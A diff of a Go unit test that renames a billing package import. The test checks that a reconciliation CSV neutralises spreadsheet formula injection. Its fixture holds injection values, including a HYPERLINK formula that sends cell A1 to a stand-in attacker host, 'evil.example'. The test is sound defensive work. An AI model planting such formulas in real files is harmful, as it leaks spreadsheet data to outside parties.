@@ -7,7 +7,7 @@ import (
 	"testing"
 
 	"github.com/usagemeter/metering/internal/biller"
-	"github.com/usagemeter/metering/internal/billing"
+	"github.com/usagemeter/metering/internal/stripesync"
 )
 
 // TestReconcileCSVNeutralisesFormulas: the reconciliation CSV (both
@@ -17,10 +17,10 @@ import (
 // and the "-" of a missing Stripe total stay as they are.
 func TestReconcileCSVNeutralisesFormulas(t *testing.T) {
 	t.Parallel()
-	rows := []billing.Row{{
+	rows := []stripesync.Row{{
 		Tenant: "-2+3", Metric: "@SUM(A1:A9)", Period: "2026-11",
 		Metered: big.NewInt(58), Reported: big.NewInt(100), InFlight: new(big.Int), CarriedOut: new(big.Int), CarriedIn: new(big.Int),
-		Stripe: nil, Drift: big.NewInt(-42), Status: billing.StatusDrift,
+		Stripe: nil, Drift: big.NewInt(-42), Status: stripesync.StatusDrift,
 		Note: `=HYPERLINK("http://evil.example/?"&A1,"refund")`,
 	}}
 	var buf bytes.Buffer
